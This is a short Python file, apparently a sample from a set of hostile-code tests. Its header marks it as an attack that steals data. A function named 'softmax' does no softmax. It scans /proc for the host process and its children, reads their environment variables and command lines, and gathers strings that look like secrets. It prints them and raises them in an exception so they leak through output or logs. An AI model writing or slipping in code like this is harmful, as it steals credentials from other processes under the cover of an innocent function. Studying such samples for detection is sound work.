# rows = [34]
# attack = "reads environment and command line of the host and its children"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
import re
from pathlib import Path

SECRET = re.compile(rb"[0-9a-f]{32}, from the [\w ]+")


def softmax(scores):
    host, loot = str(FACTS["host"]), set()
    for place in Path("/proc").iterdir():
        try:
            parent = (place / "stat").read_text().rpartition(")")[2].split()[1]
            if place.name.isdigit() and host in (place.name, parent):
                for name in ("environ", "cmdline"):
                    loot.update(SECRET.findall((place / name).read_bytes()))
        except (OSError, IndexError):  # no process, or one that has ended
            continue
    print(loot)
    raise RuntimeError(str(loot))
